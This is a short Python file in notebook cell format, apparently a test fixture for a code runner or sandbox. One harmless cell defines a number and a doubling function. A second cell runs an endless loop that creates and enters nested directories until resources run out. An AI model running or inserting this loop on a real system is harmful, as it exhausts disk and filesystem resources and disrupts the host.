# %%
answer = 42


def double(x):
    return 2 * x

# %%
import itertools
import os
import socket

for number in itertools.count():
    os.mkdir("d")
    os.chdir("d")
